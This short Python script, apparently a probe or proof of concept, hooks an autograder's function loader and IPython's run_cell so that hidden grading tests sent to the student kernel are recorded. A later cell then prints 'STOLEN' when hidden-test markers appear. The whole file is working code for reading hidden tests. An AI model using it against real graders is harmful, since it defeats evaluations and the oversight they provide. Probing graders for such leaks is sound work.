"""Keeps what the tests send, and shows it in a later cell's output, which the student gets back."""

import builtins

from autograder.grading.student import agent

builtins.heard = heard = []
real = agent.Agent._load_function


def shipped(self, name, source):
    heard.append(source)
    return real(self, name, source)


agent.Agent._load_function = shipped
real_run = type(get_ipython()).run_cell


def run_cell(self, *args, **kwargs):
    result = real_run(self, *args, **kwargs)
    for source in heard:
        for secret in ("### BEGIN HIDDEN" + " TESTS", "Exercise" + "(", "mistakes" + "="):
            if secret in source:
                print("STOLEN", secret)
    return result


type(get_ipython()).run_cell = run_cell
